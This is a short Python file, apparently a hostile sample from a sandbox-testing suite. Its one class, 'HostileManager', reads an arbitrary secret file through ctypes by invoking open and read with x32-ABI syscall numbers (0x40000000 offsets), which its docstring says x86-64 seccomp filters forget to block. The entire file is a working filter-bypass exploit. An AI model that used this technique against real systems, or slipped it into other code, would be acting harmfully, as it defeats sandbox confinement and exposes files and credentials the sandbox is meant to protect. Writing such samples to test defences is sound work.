"""Reads a file outside by a number of the x32 family, which filters of x86-64 forget.

No control: most kernels are built without x32.
Machine: x86_64.
"""

import ctypes


class HostileManager:
    def attack(self, *, secret_path):
        library, room = ctypes.CDLL(None), ctypes.create_string_buffer(100)
        file = library.syscall(0x40000000 | 2, secret_path.encode(), 0, 0)
        library.syscall(0x40000000, file, room, 100)
        return room.raw.decode(errors="replace")
